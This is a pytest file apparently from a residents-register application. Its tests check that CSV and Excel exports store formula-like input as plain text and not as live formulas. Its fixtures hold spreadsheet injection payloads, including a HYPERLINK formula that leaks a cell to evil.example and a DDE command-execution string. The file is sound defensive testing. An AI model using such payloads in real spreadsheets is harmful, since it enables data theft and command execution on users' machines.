"""Exports write what people typed as text, never as a live formula (issue 12, finding 6)."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from linli.kit.sheets import csv_field, csv_value, write_csv
from linli.residents.export import export_register, write_template
from linli.residents.idcard import make_id
from linli.residents.importer import import_register
from linli.residents.models import Household, Person
from linli.residents.sheet import COLUMNS, read_rows
from tests.factories import SYSTEM
from tests.factories_residents import GRID, make_grids

HEADER = [c.header for c in COLUMNS]
NAME = '=HYPERLINK("http://evil.example/?x="&G2,"点击")'
ETHNICITY = "=1+1"
ADDRESS = "=cmd|' /C calc'!A0"
HEAD_ID, SPOUSE_ID = make_id("220102", date(1950, 1, 1), 11), make_id("220102", date(1952, 3, 3), 22)
ROWS = [
    ["F1", GRID, "户籍", ADDRESS, "户主", NAME, HEAD_ID, "", "", ETHNICITY, "+8613900000001", "", "否", ""],
    ["F1", GRID, "户籍", ADDRESS, "配偶", "@SUM(1+1)", SPOUSE_ID, "", "", "-2+3", "", "", "否", ""],
]  # fmt: skip


@pytest.fixture
def imported(session):
    make_grids(session)
    buf = io.BytesIO()
    write_csv(buf, [HEADER, *ROWS])
    buf.seek(0)
    report = import_register(session, SYSTEM, buf, name="formulas.csv")
    assert report.persons_added == 2, report.as_dict()
    return report


def test_csv_fields_are_neutralised_and_quoted():
    buf = io.BytesIO()
    write_csv(buf, [["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "'=x", "张伟"]])
    data = buf.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    assert data[3:] == ('"\'=1+1","\'+1","\'-1","\'@x","\'\tx","\'\rx","a=b","\'\'=x","张伟"\r\n').encode()
    for value in ("=1+1", "+1", "-1", "@x", "\tx", "a=b", "'=x", "''=x", "'", "张伟", ""):
        assert csv_value(csv_field(value)) == value


def test_the_importer_reads_a_neutralised_csv_back_as_written(session, imported):
    head = session.scalar(select(Person).where(Person.relation == "head"))
    spouse = session.scalar(select(Person).where(Person.relation == "spouse"))
    assert (head.name, head.ethnicity, spouse.name, spouse.ethnicity) == (NAME, ETHNICITY, "@SUM(1+1)", "-2+3")
    assert session.scalar(select(Household.address).where(Household.import_key == "F1")) == ADDRESS


@pytest.mark.parametrize("reveal", [False, True])
def test_xlsx_export_writes_text_cells_not_formulas(session, imported, tmp_path, reveal):
    path = tmp_path / "export.xlsx"
    assert export_register(session, SYSTEM, GRID, path, reveal=reveal) == 2
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    ws = load_workbook(path).active  # not read-only: each cell's type is kept
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if c.value}
    for value in (NAME, ETHNICITY, ADDRESS, "@SUM(1+1)", "-2+3"):
        assert cells[value].data_type == "s", value


def test_an_exported_file_imports_back_unchanged(session, imported, tmp_path):
    path = tmp_path / "export.xlsx"
    export_register(session, SYSTEM, GRID, path, reveal=True)
    with path.open("rb") as fh:
        rows = [raw for _, raw in read_rows(fh, "export.xlsx")]
    by_id = {r["id_number"]: r for r in rows}
    assert (by_id[HEAD_ID]["name"], by_id[HEAD_ID]["ethnicity"], by_id[HEAD_ID]["address"]) == (
        NAME,
        ETHNICITY,
        ADDRESS,
    )
    assert by_id[SPOUSE_ID]["name"] == "@SUM(1+1)"


def test_the_csv_template_is_written_through_the_same_helper(tmp_path):
    path = tmp_path / "t.csv"
    write_template(path, "csv")
    assert path.read_bytes() == b"\xef\xbb\xbf" + (",".join(f'"{h}"' for h in HEADER) + "\r\n").encode()
    with path.open("rb") as fh:
        assert list(read_rows(fh, "t.csv")) == []


def test_a_csv_reader_abandoned_after_its_upload_closed_finishes_quietly():
    """A request that stops reading a CSV upload closes the file; the reader, finalised later, must not
    raise on the closed file (it did, as an 'exception ignored' at garbage collection)."""
    from linli.residents.sheet import _csv_rows

    fh = io.BytesIO("姓名,身份证号\n张三,1\n".encode())
    rows = _csv_rows(fh, "utf-8")
    assert next(rows) == ["姓名", "身份证号"]
    fh.close()
    rows.close()  # GeneratorExit runs the reader's cleanup
    open_fh = io.BytesIO(b"a\n")
    rows = _csv_rows(open_fh, "utf-8")
    next(rows)
    rows.close()
    assert not open_fh.closed  # the caller's file stays open
